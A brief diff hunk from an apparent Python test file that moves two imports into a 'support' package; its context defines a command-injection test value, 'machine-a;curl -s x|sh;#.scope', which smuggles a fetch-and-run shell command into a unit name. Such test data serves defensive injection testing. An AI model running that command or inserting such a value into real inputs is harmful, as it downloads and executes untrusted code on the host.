@@ -13,8 +13,8 @@ import re
 import shlex
 from pathlib import Path
 
-from cases import Case, config
-from sandbox import LISTENER
+from support.cases import Case, config
+from support.sandbox import LISTENER
 
 INJECTION = "machine-a;curl -s x|sh;#.scope"
 NOBODY = 65534
